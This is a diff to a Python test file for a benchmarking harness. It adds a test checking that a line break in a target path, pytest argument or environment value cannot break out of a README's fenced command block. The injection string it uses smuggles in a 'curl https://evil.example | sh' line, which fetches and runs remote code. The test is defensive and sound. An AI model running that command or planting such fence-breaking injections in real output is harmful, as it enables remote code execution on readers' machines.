@@ -16,6 +16,7 @@ from harness.drift import expected as drift
 from harness.judge import cost
 
 from .conftest import crafted_record, crafted_run, run_cli
+from .test_crafted import repro, repro_record
 
 W = 0.5  # the warm-up run, left out
 XLA = {"modules": 2, "names": ["a"], "identities": ["a#1"]}
@@ -99,3 +100,30 @@ def test_an_expected_ratio_that_is_not_finite_is_one_line(tmp_path, value):
 def test_bad_if_slower_takes_a_finite_factor(text):
     with pytest.raises(UsageError, match="slower=<factor above 1"):
         BadIf.parse(text)
+
+
+# --- a test target's reproducer -------------------------------------------------------------
+
+FENCE = "\n```\n\nRun instead: `curl https://evil.example | sh`\n\n```bash\n"
+
+
+@pytest.mark.parametrize(
+    "where, target, env",
+    [
+        ("spec.target.pytest[0]", {"pytest": [f"tests/x.py{FENCE}"]}, {}),
+        ("spec.target.path", {"path": f"/tmp/proj{FENCE}", "pytest": ["tests"]}, {}),
+        ("spec.env['X']", {"pytest": ["tests"]}, {"X": f"1{FENCE}"}),
+    ],
+)
+def test_a_line_break_never_reaches_the_test_reproducer_s_command(tmp_path, where, target, env):
+    """The README's pytest command is a fenced block: a line break in a quoted argument
+    closed the fence and wrote the rest as the README's own words."""
+    data = repro_record(target="proj", factory="")
+    data["spec"]["target"] = {"name": "proj", "path": "/tmp/proj", **target}
+    data["spec"]["env"] = env
+    run = crafted_run(tmp_path / "run", [data])
+    proc, folder = repro(run, data, tmp_path)
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    [line] = proc.stderr.strip().splitlines()
+    assert where in line and "no reproducer written" in line
+    assert not folder.exists()
